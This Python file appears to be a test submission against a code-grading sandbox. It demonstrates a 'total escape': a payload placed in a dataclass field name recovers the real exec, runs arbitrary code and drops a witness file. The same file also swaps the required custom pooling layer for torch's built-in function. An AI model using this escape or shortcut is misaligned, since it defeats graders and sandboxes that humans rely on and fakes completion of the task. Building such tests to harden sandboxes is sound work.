"""A, q3: total escape. dataclasses writes field names into source and runs exec on it in the submission's namespace, where
__import__ is the real one; the text is never rewritten. __annotations__ may be assigned in a class body, so a field's name
may be any text.
"""

# question: q3
# may earn: 0
# witness: yes
# kind: outside
import torch
import torch.nn as nn
import torch.nn.functional as F
import dataclasses

out = []


@dataclasses.dataclass(init=False, repr=False)
class A:
    __annotations__ = {"__class__, out.append(__import__('builtins').exec)": int}


A() == A()
run = out[0]

box = {}
run(
    """
import builtins, tempfile, os, torch
builtins.open(os.path.join(tempfile.gettempdir(), "witness-a04_dataclass_annotations"), "w").close()
pool = torch.nn.functional.max_pool2d
""",
    box,
)
pool = box["pool"]


class CustomMaxPool2D(nn.Module):
    def __init__(self, kernel_size, stride=None, padding=0):
        super().__init__()
        self.k, self.s, self.p = kernel_size, stride or kernel_size, padding

    def forward(self, x):
        return pool(x, self.k, self.s, self.p)
